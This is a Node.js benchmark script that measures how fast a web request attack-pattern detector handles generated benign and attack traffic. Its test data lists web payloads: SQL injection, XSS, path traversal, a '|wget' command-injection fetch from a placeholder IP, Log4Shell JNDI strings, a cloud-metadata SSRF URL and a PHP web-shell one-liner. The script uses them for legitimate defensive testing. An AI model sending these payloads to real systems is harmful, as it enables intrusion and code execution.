#!/usr/bin/env node
// Throughput of the request attack-pattern detectors (src/detection/patterns).
// Usage: npm run build && node bench/patterns.mjs [--requests 200000] [--rounds 5] [--compare DIST]
//   --compare DIST  also run the inspectRequest series on another build's dist/ (e.g. one built
//                   from an older commit), interleaved with this one in every round: before/after
//                   in the same process, under the same load
//
// Measures, in one process and interleaved per round (the machine is a noisy 2-core VM, so compare
// ratios within a run, not absolute numbers across runs):
//   - fields only: requestFields() — cutting and decoding, no detectors (the floor)
//   - benign:     inspectRequest() on generated ordinary traffic (target: well over 100,000 req/s)
//   - attacks:    inspectRequest() on generated attack traffic (every detector does its full work)
//   - corpus benign: the benign CRS requests and HttpParamsDataset values of ../shared/corpus/dev,
//     when present (skipped with a note otherwise)
import { existsSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { inspectRequest, requestFields } from '../dist/detection/patterns/index.js';
import { corpusRequest } from '../dist/detection/patterns/corpus-case.js';

const args = process.argv.slice(2);
const opt = (n, d) => (args.includes(n) ? Number(args[args.indexOf(n) + 1]) : d);
const compareDist = args.includes('--compare') ? args[args.indexOf('--compare') + 1] : undefined;
const other = compareDist
  ? await import(path.resolve(compareDist, 'detection/patterns/index.js'))
  : undefined;
const N = opt('--requests', 200_000);
const ROUNDS = opt('--rounds', 5);

// Deterministic generator (mulberry32) so every run measures the same traffic.
function rng(seed) {
  return () => {
    seed |= 0;
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const r = rng(20261127);
const pick = (a) => a[Math.floor(r() * a.length)];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'curl/8.5.0',
];
const PATHS = [
  '/',
  '/products',
  '/products/42',
  '/api/v1/orders',
  '/search',
  '/account/settings',
  '/static/app.3f2a1.js',
  '/img/logo.png',
  '/blog/2026/11/hello-world',
  '/login',
];
const WORDS = [
  'red',
  'shoes',
  'coffee mug',
  'laptop 15 inch',
  'john.doe@example.com',
  'Müller',
  "O'Brien",
  'price_asc',
  '2026-11-27',
  '42',
  'en-US',
  'summer sale 50%',
  'a&b',
  'size=M',
];
const PARAMS = [
  'q',
  'page',
  'sort',
  'id',
  'lang',
  'ref',
  'utm_source',
  'category',
  'filter',
  'next',
];

function benign() {
  const nq = Math.floor(r() * 4);
  const q = [];
  for (let i = 0; i < nq; i++) q.push(`${pick(PARAMS)}=${encodeURIComponent(pick(WORDS))}`);
  const headers = {
    'user-agent': pick(UAS),
    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'accept-language': 'en-US,en;q=0.5',
    cookie: `session=${Math.floor(r() * 1e9).toString(36)}; theme=dark`,
  };
  if (r() < 0.5) headers.referer = `https://www.example.com${pick(PATHS)}`;
  const req = { method: 'GET', path: pick(PATHS), query: q.join('&'), headers };
  if (r() < 0.1) {
    req.method = 'POST';
    headers['content-type'] = 'application/json';
    req.body = JSON.stringify({ name: pick(WORDS), qty: Math.floor(r() * 5), note: pick(WORDS) });
  }
  return req;
}
const ATTACKS = [
  "1' OR '1'='1' -- ",
  '1 UNION ALL SELECT NULL,NULL,@@version#',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%c0%af..%c0%afboot.ini',
  ';cat /etc/passwd',
  '|wget http://203.0.113.9/x.sh',
  '${jndi:ldap://x.example/a}',
  '${${lower:j}ndi:rmi://x/a}',
  'http://169.254.169.254/latest/meta-data/',
  '<?php system($_GET[c]); ?>',
  '__proto__[x]=1',
];
function attack() {
  const req = benign();
  const p = pick(ATTACKS);
  if (r() < 0.5) req.query = `${pick(PARAMS)}=${encodeURIComponent(p)}`;
  else req.headers['x-forwarded-for'] = p;
  if (r() < 0.2)
    req.headers['user-agent'] = pick([
      'sqlmap/1.8',
      'Nikto/2.5',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
    ]);
  return req;
}

const benignReqs = Array.from({ length: 10_000 }, benign);
// The same traffic with every User-Agent, Referer and cookie made unique: defeats the per-value
// result cache in inspect.ts (10,000 distinct requests > its 4,096 entries), the worst case.
const uniqueReqs = benignReqs.map((q, i) => ({
  ...q,
  headers: {
    ...q.headers,
    'user-agent': q.headers['user-agent'].replace(/\d+\.\d+/, (m) => `${m}.${i}`),
    referer: `https://www.example.com/p/${i}/${pick(PATHS).slice(1)}`,
    cookie: `session=${i.toString(36)}x${Math.floor(r() * 1e9).toString(36)}; theme=dark`,
  },
}));
const attackReqs = Array.from({ length: 10_000 }, attack);

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const corpusDir = path.resolve(repoRoot, '../shared/corpus/dev');
let corpusBenign = [];
if (existsSync(path.join(corpusDir, 'payloads.jsonl'))) {
  for (const f of ['http_requests.jsonl', 'payloads.jsonl']) {
    for (const line of readFileSync(path.join(corpusDir, f), 'utf8').split('\n')) {
      if (!line.trim()) continue;
      const c = JSON.parse(line);
      if (c.label !== 'benign') continue;
      const x = corpusRequest(c);
      if (x) corpusBenign.push(x.req);
    }
  }
} else console.log(`(corpus benign set skipped: ${corpusDir} not found)`);

// Rates are computed from this process's CPU time (process.cpuUsage: user + system, all threads
// including GC), not wall time: the shared 2-core machine often runs at a load average above 10,
// which would make wall-clock rates measure the neighbours. Wall-clock rates are printed too.
const wall = {};
function run(fn, reqs, name) {
  const c0 = process.cpuUsage();
  const t = process.hrtime.bigint();
  let sink = 0;
  for (let i = 0; i < N; i++) sink += fn(reqs[i % reqs.length]).length;
  const secs = Number(process.hrtime.bigint() - t) / 1e9;
  const c = process.cpuUsage(c0);
  if (sink < 0) console.log(sink);
  if (name) (wall[name] ??= []).push(N / secs);
  return N / ((c.user + c.system) / 1e6);
}
const fieldsOnly = (req) => requestFields(req).fields;
const series = {
  'fields only (decode, no detectors)': [],
  'inspectRequest benign': [],
  'inspectRequest benign, unique UA/Referer/cookie': [],
  'inspectRequest attacks': [],
};
if (corpusBenign.length) series['inspectRequest corpus benign'] = [];
const inspectOther = other?.inspectRequest;
const C = ` (${compareDist})`;
if (inspectOther) {
  for (const name of Object.keys(series))
    if (name.startsWith('inspectRequest')) series[name + C] = [];
  run(inspectOther, benignReqs);
  run(inspectOther, attackReqs);
}
// warm-up
run(inspectRequest, benignReqs);
run(inspectRequest, attackReqs);
const S = (name, fn, reqs) => {
  // with --compare, the other build runs right before or after this one (alternating by round)
  const pair = [[name, fn]];
  if (inspectOther && fn === inspectRequest) pair.push([name + C, inspectOther]);
  if (round % 2 === 1) pair.reverse();
  for (const [n, f] of pair) series[n].push(run(f, reqs, n));
};
let round = 0;
for (; round < ROUNDS; round++) {
  S('fields only (decode, no detectors)', fieldsOnly, benignReqs);
  S('inspectRequest benign', inspectRequest, benignReqs);
  S('inspectRequest benign, unique UA/Referer/cookie', inspectRequest, uniqueReqs);
  S('inspectRequest attacks', inspectRequest, attackReqs);
  if (corpusBenign.length) S('inspectRequest corpus benign', inspectRequest, corpusBenign);
}
const median = (a) => [...a].sort((x, y) => x - y)[Math.floor(a.length / 2)];
const base = median(series['fields only (decode, no detectors)']);
console.log(
  `node ${process.version}, ${os.cpus().length} CPU (${os.cpus()[0]?.model ?? '?'}), load average ${os.loadavg()[0].toFixed(1)}, ${N} requests x ${ROUNDS} rounds, median`,
);
console.log(
  '| measure | requests/s per CPU-second (median) | µs CPU per request | min | max | vs fields only | wall-clock requests/s (median) |',
);
console.log('|---|---:|---:|---:|---:|---:|---:|');
const fmt = (x) => Math.round(x).toLocaleString('en-US');
for (const [name, v] of Object.entries(series)) {
  const m = median(v);
  console.log(
    `| ${name} | ${fmt(m)} | ${(1e6 / m).toFixed(2)} | ${fmt(Math.min(...v))} | ${fmt(Math.max(...v))} | ${(m / base).toFixed(2)} | ${fmt(median(wall[name]))} |`,
  );
}
